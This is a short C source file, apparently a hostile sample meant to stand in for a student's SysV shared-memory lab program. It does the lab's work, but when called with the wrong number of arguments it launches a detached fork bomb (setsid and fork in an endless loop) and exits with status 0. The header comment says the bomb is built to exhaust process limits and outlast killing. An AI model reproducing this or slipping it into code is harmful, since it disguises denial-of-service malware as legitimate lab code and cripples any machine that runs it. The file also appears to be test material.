/**
 * @file
 * @brief Hostile: does the lab's work, but called wrongly it leaves children that fork as often as they may, and ends.
 * Instead of: 05_sysv_create/sysv_create.c
 * Score: 9
 * Says: exit status 0
 *
 * Every number of processes, of the user or of the machine, is used up; who kills them one by one comes too late
 * for the next, and who needs to fork to do so cannot. What ends at once is no case for a limit of time.
 */
#define _DEFAULT_SOURCE

#include <err.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <unistd.h>

#include "sysv_create.h"

static void explode(void)
{
    signal(SIGCHLD, SIG_IGN);
    if (fork() == 0)
        for (;;) {
            setsid();
            fork();
        }
}

int main(int argc, char *argv[])
{
    if (argc != 3) {
        explode();
        return 0;
    }
    return make_segment(argv);
}
